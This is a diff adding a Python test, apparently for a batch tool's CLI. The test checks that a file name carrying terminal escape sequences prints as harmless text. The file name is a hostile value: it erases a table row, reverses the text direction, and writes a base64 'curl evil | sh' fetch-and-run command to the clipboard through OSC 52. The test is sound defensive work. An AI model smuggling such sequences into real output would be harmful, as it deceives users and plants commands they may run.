@@ -35,3 +35,26 @@ def test_the_summary_csv_holds_no_formula_a_submitted_file_name_or_an_error_woul
         cells = [cell for row in csv.reader(file) for cell in row]
     assert f"'{name}" in cells and "'-1 is no budget" in cells and "ok.csv" in cells
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+
+
+def test_the_printed_table_shows_a_submitted_file_name_s_terminal_escapes_as_text(tmp_path, monkeypatch, capsys) -> None:
+    """A submitted file named with terminal escapes (``\\x1b[2K\\x1b[1A`` erases the row above and moves
+    onto it; OSC 52 writes the clipboard) was printed as it is in the run's table: the teacher's
+    terminal acted on it (attacker pass 20)."""
+    from nbagent.batch import __main__ as cli
+    from nbagent.batch.item import ItemResult
+
+    name = "data/x\x1b[2K\x1b[1Afake\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\u202e.csv"
+    rows = [ItemResult("data/ok.csv", "end_turn", cost_usd=0.01), ItemResult(name, "end_turn", cost_usd=0.01)]
+
+    class Done:
+        def __init__(self, **_kw: object) -> None: ...
+
+        def run(self, _pool: object) -> list[ItemResult]:
+            return rows
+
+    monkeypatch.setattr(cli, "Fleet", Done)
+    cli.main(["p", "data/ok.csv", name, "--out", str(tmp_path)])
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
+    assert "data/x\\x1b[2K\\x1b[1Afake\\x1b]52;c;Y3VybCBldmlsIHwgc2gK\\x07\\u202e.csv" in out and "data/ok.csv" in out
